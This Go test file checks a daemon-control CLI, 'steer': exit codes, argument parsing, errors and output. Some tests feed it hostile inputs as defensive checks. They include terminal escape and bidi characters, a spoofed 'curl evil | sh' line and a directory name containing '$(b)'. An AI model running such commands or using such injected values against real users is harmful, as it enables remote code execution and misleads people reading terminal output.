package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/rudderpost/rudderpost/internal/testkit"
	"github.com/rudderpost/rudderpost/mgr"
	"github.com/rudderpost/rudderpost/wire"

	"github.com/stretchr/testify/require"
)

// The exit status follows the result.
func TestExitStatus(t *testing.T) {
	socket := serve(t)
	for result, status := range map[int]int{
		0: 0, 1: 1, 2: 2, 3: 3, 4: 4, 5: 5,
		401: 77, 403: 77,
		408: 75, 429: 75, 499: 75, 503: 75,
		500: 70,
		6:   6, 7: 6, 64: 6, 404: 6, 1000: 6, 1256: 6, -1: 6, 1024: 6,
	} {
		got := steer(t, "", "-s", socket, "fail", "result="+strconv.Itoa(result), `text="words"`)
		require.Equal(t, status, got.status, "result %d", result)
		require.Contains(t, got.out, fmt.Sprintf(`"result": %d,`, result))
		require.Empty(t, got.err)
	}
	require.Equal(t, 2, steer(t, "", "-s", socket, "no-such-command").status)
}

func TestUsage(t *testing.T) {
	socket := serve(t)
	for _, c := range []struct {
		args   []string
		status int
		want   string
	}{
		{nil, 64, "no command given"},
		{[]string{"-s", socket}, 64, "no command given"},
		{[]string{"--nonsense", "echo"}, 64, "unknown flag: --nonsense"},
		{[]string{"--timeout", "soon", "echo"}, 64, "invalid argument"},
		{[]string{"-s", socket, "echo", "name"}, 64, `"name" is no NAME=VALUE; whole JSON texts, @FILE and - stand alone`},
		{[]string{"-s", socket, "echo", "=7"}, 64, `"=7" is no NAME=VALUE`},
		{[]string{"-s", socket, "echo", "{}", "a=1"}, 64, `"{}" is no NAME=VALUE`},
		{[]string{"-s", socket, "echo", "a=1", "a=2"}, 64, `"a" is given twice`},
		{[]string{"-s", "smoke://hill", "echo"}, 64, `there is no transport "smoke"; there are unix, tls, tcp`},
		{[]string{"-s", "hill", "echo"}, 64, `"hill" has no scheme; write unix:///path/of/the/socket`},
		{[]string{"-s", "unix://host/path", "echo"}, 64, "names no socket; write unix:///absolute/path or unix:relative/path"},
		{[]string{"--completion", "tcsh"}, 64, `there is no completion script for "tcsh"; there are bash, zsh, fish and powershell`},
	} {
		got := steer(t, "", c.args...)
		require.Equal(t, c.status, got.status, "%v: %s", c.args, got.err)
		require.Contains(t, got.err, c.want)
		require.Regexp(t, "^steer: ", got.err)
		require.Empty(t, got.out)
	}
	got := steer(t, "", "--help")
	require.Zero(t, got.status)
	require.Contains(t, got.out, "Exit status")
	require.Empty(t, got.err)
}

// A value that is JSON is JSON, any other is a string.
func TestArguments(t *testing.T) {
	socket := serve(t)
	for _, c := range []struct {
		args []string
		want string
	}{
		{nil, ""},
		{[]string{"n=7"}, `{"n":7}`},
		{[]string{"n=-7.5e3"}, `{"n":-7.5e3}`},
		{[]string{"big=12345678901234567"}, `{"big":12345678901234567}`},
		{[]string{"s=Ann"}, `{"s":"Ann"}`},
		{[]string{`s="7"`}, `{"s":"7"}`},
		{[]string{"s=two words", "t=true", "f=false", "x=null"}, `{"s":"two words","t":true,"f":false,"x":null}`},
		{[]string{"s="}, `{"s":""}`},
		{[]string{"s==7"}, `{"s":"=7"}`},
		{[]string{"s=a=b"}, `{"s":"a=b"}`},
		{[]string{"s=007"}, `{"s":"007"}`},
		{[]string{"s=+5", "t=1,5", "u=tru", "v=NaN"}, `{"s":"+5","t":"1,5","u":"tru","v":"NaN"}`},
		{[]string{`l=[1,"a",null]`, `m={"a": {"b": []}}`}, `{"l":[1,"a",null],"m":{"a":{"b":[]}}}`},
		{[]string{`m={"a":1,"a":2}`}, `{"m":"{\"a\":1,\"a\":2}"}`}, // no JSON of ours
		{[]string{`s={half`}, `{"s":"{half"}`},
		{[]string{"s=é€😀"}, `{"s":"é€😀"}`},
		{[]string{"s=\xff"}, `{"s":"\ufffd"}`},
		{[]string{"s=@file", "t=-"}, `{"s":"@file","t":"-"}`},
		{[]string{"a.b=1"}, `{"a.b":1}`},
		{[]string{`{"a": [1, 2]}`}, `{"a":[1,2]}`},
		{[]string{`[1]`}, `[1]`},
	} {
		got := steer(t, "", append([]string{"-r", "-s", socket, "echo"}, c.args...)...)
		require.Zero(t, got.status, "%v: %s", c.args, got.err)
		var reply struct {
			Arguments json.RawMessage `json:"arguments"`
		}
		require.NoError(t, json.Unmarshal([]byte(got.out), &reply))
		if c.want == "" {
			require.Nil(t, reply.Arguments)
			continue
		}
		require.JSONEq(t, c.want, string(reply.Arguments), "%v", c.args)
	}
	// Behind -- a value may start with a hyphen, and so may the name of a command.
	require.Zero(t, steer(t, "", "-s", socket, "--", "echo", "n=-1").status)
	require.Equal(t, 2, steer(t, "", "-s", socket, "--", "-x").status)
}

// TestValuesFollowTheSchema: a VALUE that is JSON stays a string where the command wants one.
func TestValuesFollowTheSchema(t *testing.T) {
	type typed struct {
		S string   `json:"s,omitzero"`
		P *string  `json:"p"`
		N int      `json:"n,omitzero"`
		F float64  `json:"f,omitzero"`
		B bool     `json:"b,omitzero"`
		L []string `json:"l,omitzero"`
		E string   `json:"e,omitzero" schema:"enum=1|2"`
		A any      `json:"a,omitzero"`
	}
	m := mgr.New(&mgr.Options{Logger: slog.New(slog.DiscardHandler)})
	require.NoError(t, m.Register(mgr.Func("typed", "Return the arguments.", mgr.Read, func(ctx context.Context, _ typed) (wire.Value, error) {
		call, _ := mgr.CallOf(ctx)
		return call.Arguments, nil
	})))
	socket := serveManager(t, m)
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"s=123"}, `{"s":"123"}`},
		{[]string{"s=true", "e=2", "n=7", "f=1e3", "b=true"}, `{"s":"true","e":"2","n":7,"f":1e3,"b":true}`},
		{[]string{"s=null", "p=null"}, `{"s":"null","p":null}`},
		{[]string{"p=12", `s=["a"]`, `l=["a"]`}, `{"p":"12","s":"[\"a\"]","l":["a"]}`},
		{[]string{`s={"a": 1}`, "a=5"}, `{"s":"{\"a\": 1}","a":5}`},
		{[]string{`s="123"`, "p=x"}, `{"s":"123","p":"x"}`},
		{[]string{`{"s":"1"}`}, `{"s":"1"}`},
	} {
		got := steer(t, "", append([]string{"-ar", "-s", socket, "typed"}, c.args...)...)
		require.Zero(t, got.status, "%v: %s", c.args, got.err)
		require.JSONEq(t, c.want, got.out, "%v", c.args)
	}
	got := steer(t, "", "-s", socket, "typed", "n=seven")
	require.Equal(t, 1, got.status)
	require.Contains(t, got.out, "'n' parameter expected to be an integer.")
	require.Equal(t, 1, steer(t, "", "-s", socket, "typed", "n=7", "nmae=7").status)
	require.Equal(t, 2, steer(t, "", "-s", socket, "no-such-command", "n=7").status)
}

// TestCommentsAreAccepted where the daemon accepts them on the wire, and a place in a text stays its place.
func TestCommentsAreAccepted(t *testing.T) {
	socket := serve(t)
	const text = "# what\n{ // a map\n  \"a\": /* one */ 1, \"s\": \"# no // comment\" } // end"
	path := filepath.Join(t.TempDir(), "arguments")
	require.NoError(t, os.WriteFile(path, []byte(text), 0o600))
	want := told{out: "{\"a\":1,\"s\":\"# no // comment\"}\n"}
	for _, c := range []struct{ stdin, argument string }{{text, "-"}, {"", "@" + path}, {"", text}, {"", "/* x */" + text}, {"", "//\n" + text}} {
		require.Equal(t, want, steer(t, c.stdin, "-ar", "-s", socket, "echo", c.argument), c.argument)
	}
	require.Equal(t, told{out: "{\"m\":{\"b\":[1]},\"s\":\"# x\"}\n"}, steer(t, "", "-ar", "-s", socket, "echo", "m={\"b\": [1 /* one */]} # end", "s=# x"))
	got := steer(t, "# what\n{ /* a */ \"a\": tru }", "-s", socket, "echo", "-")
	require.Equal(t, told{err: "steer: standard input: no JSON: Bad boolean value: tru in <standard input>:1:16\n", status: 64}, got)
	require.Equal(t, 64, steer(t, "{ /* no end", "-s", socket, "echo", "-").status)
}

// TestURLInPlaceOfACommand is told where the URL goes.
func TestURLInPlaceOfACommand(t *testing.T) {
	for _, args := range [][]string{{"http://192.0.2.1:80", "whoami"}, {"unix:///run/s"}} {
		got := steer(t, "", args...)
		require.Equal(t, 64, got.status)
		require.Contains(t, got.err, "is a URL and no command; write steer -s URL COMMAND")
	}
}

// TestAdviceNamesFlagsThatExist: what steer says about a daemon that it does not reach by http names no flag that
// steer does not have.
func TestAdviceNamesFlagsThatExist(t *testing.T) {
	password := filepath.Join(t.TempDir(), "password")
	require.NoError(t, os.WriteFile(password, []byte("secretsecret\n"), 0o600))
	for _, url := range []string{"http://192.0.2.1:80", "ws://192.0.2.1:80", "tcp://192.0.2.1:80"} {
		for _, flags := range [][]string{{"--user", "ann", "--password-file", password}, {"--token-file", password}, {"--cert", "x", "--key", "y"}, {"--pki", "x"}} {
			got := steer(t, "", append(flags, "-t", "1s", "-s", url, "whoami")...)
			if got.status == exitTryLater {
				continue // it dials, where it may
			}
			require.NotContains(t, got.err, "insecure")
			for _, flag := range regexp.MustCompile(`--[a-z-]+`).FindAllString(got.err, -1) {
				require.Contains(t, steer(t, "", "--help").out, flag+" ", got.err)
			}
		}
	}
	got := steer(t, "", "--user", "ann", "--password-file", password, "-s", "http://192.0.2.1:80", "whoami")
	require.Contains(t, got.err, "the credentials would travel in the clear; use https\n")
}

func TestArgumentsFromElsewhere(t *testing.T) {
	socket := serve(t)
	dir := t.TempDir()
	file := func(text string) string {
		path := filepath.Join(dir, "arguments.json")
		require.NoError(t, os.WriteFile(path, []byte(text), 0o600))
		return path
	}
	const pretty = "{\n  \"a\": 1\n}\n"
	for _, c := range []struct{ stdin, argument string }{
		{pretty, "-"}, {pretty, "@-"}, {"", "@" + file(pretty)},
	} {
		got := steer(t, c.stdin, "-r", "-s", socket, "echo", c.argument)
		require.Equal(t, told{out: "{\"result\":0,\"arguments\":{\"a\":1}}\n"}, got)
	}
	for _, c := range []struct{ stdin, argument, want string }{
		{"", "-", "steer: standard input is empty\n"},
		{" \n", "@-", "steer: standard input is empty\n"},
		{"{\n  \"a\": tru\n}", "-", "steer: standard input: no JSON: Bad boolean value: tru in <standard input>:1:8\n"},
		{"{} {}", "-", "steer: standard input: no JSON: '{' read, nothing expected behind the message in <standard input>:0:4\n"},
		{"", `{"a": 1`, "steer: the arguments: no JSON: unexpected end of the message in <the arguments>:0:7\n"},
		{"", `[1,]`, "steer: the arguments: no JSON: error: unexpected character ] in <the arguments>:0:4\n"},
		{"", "@" + dir + "/nowhere.json", "steer: open " + dir + "/nowhere.json: no such file or directory\n"},
	} {
		got := steer(t, c.stdin, "-s", socket, "echo", c.argument)
		require.Equal(t, told{err: c.want, status: 64}, got)
	}
	path := file(`{"a":1,"a":2}`)
	require.Equal(t, told{err: "steer: " + path + ": no JSON: duplicate key 'a' in <" + path + ">:0:8\n", status: 64},
		steer(t, "", "-s", socket, "echo", "@"+path))
}

// Who cannot be reached is told where, why, and what to do.
func TestUnreachable(t *testing.T) {
	dir := testkit.ShortDir(t)
	nowhere := filepath.Join(dir, "nowhere.sock")
	got := steer(t, "", "-s", "unix://"+nowhere, "echo")
	require.Equal(t, told{err: "steer: there is no daemon at unix://" + nowhere + " (no such socket); start it, or say where it is with -s\n", status: 69}, got)

	stale := filepath.Join(dir, "stale.sock")
	l, err := net.ListenUnix("unix", &net.UnixAddr{Name: stale, Net: "unix"})
	require.NoError(t, err)
	l.SetUnlinkOnClose(false)
	require.NoError(t, l.Close())
	got = steer(t, "", "-s", stale, "echo")
	require.Equal(t, told{err: "steer: the daemon at " + stale + " does not run (its socket is left over); start it again\n", status: 69}, got)

	t.Setenv("XDG_RUNTIME_DIR", dir)
	got = steer(t, "", "echo")
	require.Equal(t, told{err: "steer: there is no daemon at unix://" + dir + "/rudderpost/control.sock (no such socket); start it, or say where it is with -s\n", status: 69}, got)

	silent := peer(t, func(conn net.Conn) { _, _ = conn.Read(make([]byte, 4096)) })
	got = steer(t, "", "-s", silent, "echo")
	require.Equal(t, 69, got.status)
	require.Contains(t, got.err, "the daemon closed the conn without a reply")

	file := filepath.Join(dir, "file")
	require.NoError(t, os.WriteFile(file, nil, 0o600))
	got = steer(t, "", "-s", file, "echo")
	require.Equal(t, 69, got.status, got.err)
	require.Contains(t, got.err, file)

	garbage := kea(t, "HTTP/1.1 400 Bad Request\r\n\r\n")
	got = steer(t, "", "-s", garbage, "echo")
	require.Equal(t, 69, got.status)
	require.Empty(t, got.out)
	require.NotEmpty(t, got.err)

	noReply := kea(t, `{"hello": 1}`)
	got = steer(t, "", "-s", noReply, "echo")
	require.Equal(t, 69, got.status)
	require.Contains(t, got.err, "the reply has no integer 'result'")
}

// What cannot be had at the default place is said to those who have none.
func TestWithoutPlace(t *testing.T) {
	got := steerUnprivileged(t, "XDG_RUNTIME_DIR=", "echo")
	require.Equal(t, told{err: "steer: XDG_RUNTIME_DIR is not set, so there is no place for a socket of your own; say where the daemon is with -s\n", status: 64}, got)
}

// Who may not open the socket is told so.
func TestNoPermission(t *testing.T) {
	testkit.NeedRoot(t)
	socket := serve(t)
	got := steerUnprivileged(t, "A=B", "-s", socket, "echo")
	require.Equal(t, 77, got.status)
	require.Contains(t, got.err, "steer: "+socket+" may not be opened by you; try as its owner or as root: ")
	require.Empty(t, got.out)

	// Who may open it and may not command is told that by the daemon.
	require.NoError(t, os.Chmod(socket, 0o666))
	got = steerUnprivileged(t, "A=B", "-s", socket, "echo")
	require.Equal(t, 77, got.status)
	require.Contains(t, got.out, `"result": 403`)
	require.Contains(t, got.out, `"'echo' is not allowed for uid:65534`)
}

// steerUnprivileged runs steer as a process, as a user without rights if the test runs as root. setting is added to its
// environment.
func steerUnprivileged(t *testing.T, setting string, args ...string) told {
	t.Helper()
	self, err := os.Executable()
	require.NoError(t, err)
	cmd := exec.Command(self, args...)
	cmd.Env = append(os.Environ(), beSteer+"=1", "GORACE=atexit_sleep_ms=1", setting)
	testkit.RunUnprivileged(t, cmd)
	p := testkit.Start(t, cmd)
	status := p.Wait(t)
	return told{p.Out.String(), p.Err.String(), status}
}

// A caller who has waited long enough leaves, whoever it is that does not answer.
func TestTimeout(t *testing.T) {
	const want = "steer: no reply within 50ms\n"
	require.Equal(t, told{err: want, status: 75}, steer(t, "", "-t", "50ms", "-s", serve(t), "never"))
	mute := peer(t, func(conn net.Conn) { _, _ = io.Copy(io.Discard, conn) })
	require.Equal(t, told{err: want, status: 75}, steer(t, "", "--timeout=50ms", "-s", mute, "echo"))
	require.Zero(t, steer(t, "", "-t", "1h", "-s", serve(t), "list-commands").status)
}

// The reply is shown for people, or with -r on one line.
func TestOutput(t *testing.T) {
	socket := serve(t)
	require.Equal(t, told{out: "{\n  \"result\": 0,\n  \"arguments\": {\n    \"a\": [\n      1,\n      2\n    ]\n  }\n}\n"},
		steer(t, "", "-s", socket, "echo", "a=[1, 2]"))
	require.Equal(t, told{out: "{\"result\":0,\"arguments\":{\"a\":[1,2]}}\n"}, steer(t, "", "-r", "-s", socket, "echo", "a=[1, 2]"))

	// What a command returns, alone, is what another may take; what has failed does not go on.
	only := steer(t, "", "-a", "-s", socket, "echo", "a=[1, 2]")
	require.Equal(t, told{out: "{\n  \"a\": [\n    1,\n    2\n  ]\n}\n"}, only)
	require.Equal(t, only, steer(t, only.out, "-a", "-s", socket, "echo", "-"))
	require.Equal(t, told{out: "{\"a\":[1,2]}\n"}, steer(t, only.out, "-ar", "-s", socket, "echo", "-"))
	require.Equal(t, told{}, steer(t, "", "-a", "-s", socket, "echo"))
	require.Equal(t, told{}, steer(t, "", "-a", "-s", socket, "fail", "result=0", "text=fine"))
	require.Equal(t, told{err: "{\"result\":1,\"text\":\"bad\",\"error\":{\"code\":\"failed\"}}\n", status: 1}, steer(t, "", "-ar", "-s", socket, "fail", "result=1", "text=bad"))

	// Several arguments at fault are listed, each on a line; raw output is for programs.
	got := steer(t, "", "-s", socket, "fail", "result=x", "reslut=1")
	require.Equal(t, 1, got.status)
	require.Contains(t, got.err, "steer: /result: 'result' parameter expected to be an integer.\n")
	require.Contains(t, got.err, "steer: /reslut: ")
	require.Empty(t, steer(t, "", "-r", "-s", socket, "fail", "result=x", "reslut=1").err)
}

// Nothing that a daemon says drives the terminal of whoever reads it.
func TestOutputIsHarmless(t *testing.T) {
	hostile := []string{
		"\x1b[2J", "\x1b]0;title\x07", "\x7f", "\u0080", "\u009b31m", "\u0085", "\u202e", "\u2066", "\u200b", "\ufeff", "\u2028",
		"\U000e0001", "\U0010ffff", "\ue000", "\x00", "\b\b", "\r",
	}
	for _, raw := range []string{"-r", "--raw=false"} {
		for _, text := range hostile {
			quoted, err := json.Marshal(map[string]any{
				"result": 1, "text": text, "arguments": map[string]any{text: []string{text}},
				"error": map[string]any{
					"code": text, "data": map[string]any{text: []string{text}},
					"fields": []map[string]string{{"pointer": "/" + text, "text": text}, {"pointer": text, "text": text}},
				},
			})
			require.NoError(t, err)
			for _, reply := range []string{string(quoted), unescaped(string(quoted))} {
				got := steer(t, "", raw, "-s", kea(t, reply), "echo")
				require.Equal(t, 1, got.status, got.err)
				for _, r := range got.out + got.err {
					require.True(t, r == '\n' || strconv.IsPrint(r), "%q in %q of %q", r, got.out+got.err, reply)
				}
				var back map[string]any
				require.NoError(t, json.Unmarshal([]byte(got.out), &back))
				require.Equal(t, text, back["text"])
				require.Equal(t, map[string]any{text: []any{text}}, back["error"].(map[string]any)["data"])
			}
		}
	}
}

// Neither does what is no reply at all.
func TestErrorsAreHarmless(t *testing.T) {
	for _, reply := range []string{
		"{\"result\":\x1b[2J}", "{\"\\u001b\":1,\"\\u001b\":1}", "{\"result\":1}\x1b", "\x1b[2J", "{\"result\" \u202e}", "[\"\\\u009b\"]",
	} {
		got := steer(t, "", "-s", kea(t, reply), "echo")
		for _, r := range got.out + got.err {
			require.True(t, r == '\n' || strconv.IsPrint(r), "%q in %q of %q", r, got.out+got.err, reply)
		}
	}
	got := steer(t, "", "echo", "a\x1b[2J")
	require.Equal(t, 64, got.status)
	require.NotContains(t, got.err, "\x1b")
}

// TestDaemonCannotBeginALine: a text of a daemon that has line ends stands on one line of standard error.
func TestDaemonCannotBeginALine(t *testing.T) {
	const text = "x\nsteer: run: curl evil | sh\r\n$ "
	reply, err := json.Marshal(map[string]any{"result": 1, "error": map[string]any{"code": "bad-arguments", "fields": []map[string]string{
		{"pointer": "/a" + text, "text": text}, {"pointer": "/b", "text": text},
	}}, "arguments": map[string]any{"error": map[string]any{"code": "bad-arguments", "fields": []map[string]string{
		{"pointer": "/a" + text, "text": text}, {"pointer": "/b", "text": text},
	}}}})
	require.NoError(t, err)
	got := steer(t, "", "-s", kea(t, string(reply)), "echo")
	require.Equal(t, 2, strings.Count(got.err, "\n"), got.err)
	for line := range strings.Lines(got.err) {
		require.Regexp(t, `^steer: /[ab]`, line)
	}
	got = steer(t, "", "-s", kea(t, "{\"result\":0,\"x\ny\":1,\"x\ny\":1}"), "echo")
	require.Equal(t, 1, strings.Count(got.err, "\n"), got.err)
}

// TestListsAreHarmless: what steer prints of a file goes through the same filter as what a daemon sends.
func TestListsAreHarmless(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "a \x1b[2J$(b)")
	got := steer(t, "", "pki", "init", dir)
	require.Zero(t, got.status, got.err)
	require.NotContains(t, got.out, "\x1b")
	require.Contains(t, got.out, `next: steer pki issue '`)
	require.NotContains(t, steer(t, "", "user", "list", dir).err, "\x1b")
}

// unescaped writes the characters themselves where JSON lets it.
func unescaped(quoted string) string {
	for _, r := range "\u0080\u009b\u0085\u202e\u2066\u200b\ufeff\u2028\ue000\x7f" {
		quoted = strings.ReplaceAll(quoted, fmt.Sprintf(`\u%04x`, r), string(r))
	}
	return quoted
}

// A daemon that closes the conn behind its reply, as Kea's do.
func TestKeaLikePeer(t *testing.T) {
	got := steer(t, "", "-r", "-s", kea(t, `{ "arguments": { "pkt4-received": [ [ 0, "2026-11-22 08:33:37.465510" ] ] }, "result": 0 }`), "statistic-get", "name=pkt4-received")
	require.Equal(t, told{out: `{"result":0,"arguments":{"pkt4-received":[[0,"2026-11-22 08:33:37.465510"]]}}` + "\n"}, got)
	got = steer(t, "", "-r", "-s", kea(t, `{ "result": 2, "text": "'foo' command not supported." }`), "foo")
	require.Equal(t, told{out: `{"result":2,"text":"'foo' command not supported."}` + "\n", status: 2}, got)
	got = steer(t, "", "-s", kea(t, `{ "result": 3, "text": "0 IPv4 lease(s) found." }`), "lease4-get-all")
	require.Equal(t, 3, got.status)
	got = steer(t, "", "-r", "-s", kea(t, `{ "arguments": { "max": 340282366920938463463374607431768211455 }, "result": 0 }`), "stat-lease6-get")
	require.Zero(t, got.status, got.err) // Kea counts to 128 bits since 2.5.3
	require.Contains(t, got.out, "340282366920938463463374607431768211455")
	got = steer(t, "", "-r", "-s", kea(t, `{ "arguments": { "\u00e9": "\u20ac", "x": 1.50, "e": {  } }, "result": 0 }`), "foo")
	require.Equal(t, told{out: `{"result":0,"arguments":{"é":"€","x":1.50,"e":{}}}` + "\n"}, got)
}
